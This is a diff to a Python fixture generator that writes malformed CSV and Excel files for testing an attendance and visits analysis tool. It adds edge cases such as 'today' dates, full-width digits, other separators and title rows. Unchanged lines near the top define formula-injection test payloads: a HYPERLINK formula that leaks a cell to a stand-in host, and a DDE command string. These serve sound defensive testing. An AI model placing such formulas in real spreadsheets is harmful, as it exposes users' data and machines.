@@ -21,6 +21,7 @@ EXAMPLE = HERE.parent.parent / "eyanalysis" / "data" / "example" / "attendance.c
 HYPERLINK = '"=HYPERLINK(""http://example.test/?leak=""&A1,""Click"")"'  # OWASP's example
 DDE = "\"+cmd|' /C calc'!A0\""
 FIVE_MB = 5 * 1024 * 1024
+WIDE_2025, WIDE_2022 = "\uff12\uff10\uff12\uff15", "\uff12\uff10\uff12\uff12"  # full width
 
 
 def table(name: str) -> list[str]:
@@ -194,6 +195,20 @@ CSV = {
                                            "C002,S3,2025-AUT,15,14,GR4,extra"),
     "visits__unclosed_quote.csv": replace("visits", 3, "V2,S2,intensive",
                                           'V2,S2,"intensive'),
+    # pandas reads "today" and "now" as the moment it runs, even with a format
+    "visits__date_written_as_today.csv": replace(
+        "visits", 4, "2026-03-01,,,", "2026-03-01,,now,",
+        replace("visits", 3, "2025-10-15", "today")),
+    # Python's \d matches full-width digits: ２０２５-AUT is not a term id
+    "attendance__term_in_full_width_digits.csv": replace("attendance", 4, "2025-AUT",
+                                                         WIDE_2025 + "-AUT"),
+    "children__birth_month_in_full_width_digits.csv": replace("children", 3, "2022-02",
+                                                              WIDE_2022 + "-02"),
+    # exports that are not comma separated, or have a title above the header
+    "visits__semicolons.csv": [r.replace(",", ";") for r in table("visits")],
+    "visits__tabs.csv": [r.replace(",", "\t") for r in table("visits")],
+    "visits__title_above_header.csv": ["Visits export from the portal, 1 December 2026",
+                                       ""] + table("visits"),
 }
 
 # Files that are not text of the right kind at all (bytes), or need another extension.
@@ -238,6 +253,9 @@ def workbook(path: Path, fault: str) -> None:
             continue
         sheet = book.create_sheet(name)
         rows = [r.split(",") for r in csv.read_text().splitlines()]
+        if fault == "title_row" and name == "attendance":
+            sheet.append(["Attendance export - autumn 2025"])
+            sheet.append([])
         if fault == "merged_header" and name == "attendance":
             sheet.append(["Attendance export - autumn 2025"] + [None] * (len(rows[0]) - 1))
             sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(rows[0]))
@@ -270,7 +288,8 @@ if __name__ == "__main__":
                   "Busy Bees \u00a35 Club,after school club"), encoding="cp1252")
     for name, data in RAW.items():
         (HERE / name).write_bytes(data)
-    faults = ("missing_sheet", "merged_header", "bad_cells", "formula_text", "empty_sheet")
+    faults = ("missing_sheet", "merged_header", "bad_cells", "formula_text", "empty_sheet",
+              "title_row")
     for fault in faults:
         workbook(HERE / f"workbook__{fault}.xlsx", fault)
     print(f"wrote {len(CSV) + len(RAW) + 1 + len(faults)} files to {HERE}")
